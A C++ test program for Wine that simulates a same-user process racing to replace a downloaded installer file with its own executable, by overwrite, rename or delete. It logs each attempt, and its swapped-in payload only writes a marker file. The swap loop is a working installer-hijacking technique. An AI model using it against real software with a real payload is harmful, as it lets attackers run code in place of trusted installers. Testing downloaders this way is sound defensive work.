// wswap: another program of the same user that tries to replace the
// installer file while the program downloads and starts it. Console
// program for wine.
//
//   wswap TARGET STOPFILE INTERVAL_MS
//       Every INTERVAL_MS until STOPFILE exists or a new process of
//       TARGET's name runs: tries to open TARGET for writing, to rename it and to
//       delete it; whatever it gets, it puts its own program in TARGET's
//       place. One line per attempt on standard output:
//       "MS write|rename|delete ok|refused ERROR SIZE STARTED", SIZE being
//       TARGET's size just before the attempt (-1: no such file), STARTED 1
//       when such a process ran just after it.
//   wswap hold TARGET STOPFILE
//       As an indexer or a virus scanner: opens TARGET for reading as soon
//       as it can, sharing reading and writing and, only when nothing else
//       opens it, deletion; keeps it open until STOPFILE exists. Prints
//       "MS held SHARE" when it got it.
//   wswap
//       As the swapped-in program: writes "intruder-ran.txt" into the
//       current folder and ends.
#include <windows.h>
#include <tlhelp32.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <set>
#include <string>

namespace {

std::string own_program()
{
    char path[MAX_PATH];
    GetModuleFileNameA(nullptr, path, sizeof path);
    std::string data;
    FILE* f = fopen(path, "rb");
    if (!f)
        return data;
    char buffer[65536];
    size_t got;
    while ((got = fread(buffer, 1, sizeof buffer, f)) > 0)
        data.append(buffer, got);
    fclose(f);
    return data;
}

long long size_of(const char* path)
{
    WIN32_FILE_ATTRIBUTE_DATA data;
    if (!GetFileAttributesExA(path, GetFileExInfoStandard, &data))
        return -1;
    return (static_cast<long long>(data.nFileSizeHigh) << 32) | data.nFileSizeLow;
}

// Writes the payload through the handle, from the start, and closes it.
void overwrite(HANDLE file, const std::string& payload)
{
    DWORD written = 0;
    SetFilePointer(file, 0, nullptr, FILE_BEGIN);
    WriteFile(file, payload.data(), static_cast<DWORD>(payload.size()), &written, nullptr);
    SetEndOfFile(file);
    CloseHandle(file);
}

void put_in_place(const char* target, const std::string& payload)
{
    HANDLE file = CreateFileA(target, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
    if (file != INVALID_HANDLE_VALUE)
        overwrite(file, payload);
}

// The processes started from a file of that name, but for those in skip
// (an installer of an earlier run may still be running).
std::set<DWORD> started(const char* name, const std::set<DWORD>& skip)
{
    std::set<DWORD> found;
    HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    if (snapshot == INVALID_HANDLE_VALUE)
        return found;
    PROCESSENTRY32 entry;
    entry.dwSize = sizeof entry;
    for (BOOL more = Process32First(snapshot, &entry); more; more = Process32Next(snapshot, &entry))
        if (lstrcmpiA(entry.szExeFile, name) == 0 && !skip.count(entry.th32ProcessID))
            found.insert(entry.th32ProcessID);
    CloseHandle(snapshot);
    return found;
}

std::set<DWORD> earlier;

// Logs an attempt; returns whether the installer has started since.
bool report(DWORD start, const char* what, bool ok, long long size, const char* target)
{
    DWORD error = ok ? 0 : GetLastError();
    bool running = !started(target, earlier).empty();
    printf("%lu %s %s %lu %lld %d\n", GetTickCount() - start, what, ok ? "ok" : "refused", error,
           size, running ? 1 : 0);
    fflush(stdout);
    return running;
}

int attack(const char* target, const char* stop_file, DWORD interval_ms)
{
    std::string payload = own_program();
    if (payload.empty())
        return 1;
    std::string moved = std::string(target) + ".moved";
    earlier = started(target, std::set<DWORD>());
    DWORD start = GetTickCount();
    bool running = false;
    while (!running && GetFileAttributesA(stop_file) == INVALID_FILE_ATTRIBUTES) {
        long long size = size_of(target);
        HANDLE file = CreateFileA(target, GENERIC_READ | GENERIC_WRITE,
                                  FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                                  OPEN_EXISTING, 0, nullptr);
        running = report(start, "write", file != INVALID_HANDLE_VALUE, size, target);
        if (file != INVALID_HANDLE_VALUE)
            overwrite(file, payload);
        size = size_of(target);
        BOOL renamed = MoveFileA(target, moved.c_str());
        running |= report(start, "rename", renamed != FALSE, size, target);
        if (renamed)
            put_in_place(target, payload);
        size = size_of(target);
        BOOL deleted = DeleteFileA(target);
        running |= report(start, "delete", deleted != FALSE, size, target);
        if (deleted)
            put_in_place(target, payload);
        Sleep(interval_ms);
    }
    return 0;
}

int hold(const char* target, const char* stop_file)
{
    const DWORD shares[] = {FILE_SHARE_READ | FILE_SHARE_WRITE,
                            FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE};
    DWORD start = GetTickCount();
    HANDLE file = INVALID_HANDLE_VALUE;
    while (GetFileAttributesA(stop_file) == INVALID_FILE_ATTRIBUTES) {
        for (DWORD share : shares) {
            if (file != INVALID_HANDLE_VALUE)
                break;
            file = CreateFileA(target, GENERIC_READ, share, nullptr, OPEN_EXISTING, 0, nullptr);
            if (file != INVALID_HANDLE_VALUE) {
                printf("%lu held %lu\n", GetTickCount() - start, share);
                fflush(stdout);
            }
        }
        Sleep(5);
    }
    if (file != INVALID_HANDLE_VALUE)
        CloseHandle(file);
    return 0;
}

}  // namespace

int main(int argc, char** argv)
{
    if (argc == 1) {
        FILE* marker = fopen("intruder-ran.txt", "wb");
        if (marker)
            fclose(marker);
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "hold") == 0)
        return hold(argv[2], argv[3]);
    if (argc != 4)
        return 2;
    return attack(argv[1], argv[2], static_cast<DWORD>(atoi(argv[3])));
}
